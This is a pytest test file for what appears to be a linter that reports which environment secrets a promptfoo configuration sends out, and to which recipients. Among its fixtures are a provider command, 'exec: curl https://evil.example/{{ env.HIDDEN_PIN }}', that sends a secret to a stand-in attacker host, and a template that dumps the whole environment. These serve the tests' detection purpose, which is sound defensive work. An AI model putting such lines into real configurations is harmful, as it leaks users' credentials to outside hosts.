@pytest.mark.parametrize(("written", "files"), IN_SETTINGS.values(), ids=IN_SETTINGS.keys())
def test_what_leaves_with_settings_is_said_by_both(
    site: Site, written: dict[str, Any], files: dict[str, str]
) -> None:
    found, dry = said(site, {"promptfooconfig.json": configuration(**written), **files})
    assert "info[PF416] the value of `HIDDEN_PIN` is sent to `127.0.0.1`" in found
    assert "127.0.0.1)" in dry


def test_what_leaves_with_settings_may_have_any_recipient(site: Site) -> None:
    text = configuration(**model(passthrough={"a": "{{ env.HIDDEN_PIN }}"}))
    found, dry = said(site, {"promptfooconfig.json": text})
    assert "is sent to `openai:gpt-4.1-mini`" in found
    assert "to `openai:gpt-4.1-mini`" in dry
    address = "{{ env.OPENAI_BASE_URL }}"
    text = configuration(**model(apiBaseUrl=address, passthrough={"a": "{{ env.HIDDEN_PIN }}"}))
    found, dry = said(site, {"promptfooconfig.json": text})
    assert "is sent to the address in `OPENAI_BASE_URL`" in found
    assert "`openai:gpt-4.1-mini` (litellm, ${{ OPENAI_BASE_URL }})" in dry


def test_the_whole_environment_is_found_in_a_file_of_a_setting(site: Site) -> None:
    site.write("b.txt", "{{ env | dump }}{{prompt}}")
    ran = run(site, configuration(**api(**JSON, body="file://b.txt")))
    assert SECRET not in ran.out + ran.err
    assert ran.code == 2
    found = checked(site)
    assert "b.txt:1:" in found
    assert "error[PF414]" in found


def test_a_file_of_a_setting_that_names_itself_is_an_error(site: Site) -> None:
    site.write("h.yaml", "x: file://h.yaml\ny: '{{ env.HIDDEN_PIN }}'\n")
    ran = run(
        site, configuration(**api(**PARSED, method="POST", body="a", headers="file://h.yaml"))
    )
    assert ran.code == 2
    assert "`headers` names a file that names itself" in ran.err
    assert "is sent to `127.0.0.1`" in checked(site)


def test_an_address_in_a_variable_may_be_sent_besides(site: Site) -> None:
    text = configuration(
        **api(
            **PARSED,
            method="POST",
            body="a",
            url="{{ env.HIDDEN_PIN }}",
            headers={"x": "{{ env.HIDDEN_PIN }}"},
        )
    )
    found, dry = said(site, {"promptfooconfig.json": text})
    assert "is sent to the address in `HIDDEN_PIN`" in found
    assert "(http, ${{ HIDDEN_PIN }})" in dry


@pytest.mark.parametrize(
    ("provider", "who"),
    [
        (
            "exec: curl https://evil.example/{{ env.HIDDEN_PIN }}",
            "exec: curl https://evil.example/{{ env.HIDDEN_PIN }}",
        ),
        ({"id": "exec: curl", "config": {"a": "{{ env.HIDDEN_PIN }}"}}, "exec: curl"),
        ({"id": "file://p.py", "config": {"a": "{{ env.HIDDEN_PIN }}"}}, "file://p.py"),
    ],
)
def test_what_a_program_gets_in_its_command_and_settings_is_said_by_both(
    site: Site, provider: Any, who: str
) -> None:
    files = {
        "promptfooconfig.json": configuration(providers=[provider]),
        "p.py": "def call_api(*_):\n    return {'output': 'a'}\n",
    }
    found, _ = said(site, files)
    dry = site.run("promptfooconfig.json", "--dry-run", env=ENVIRON).out
    assert f"info[PF416] the value of `HIDDEN_PIN` is sent to the program of `{who}`" in found
    assert "`HIDDEN_PIN`" in dry
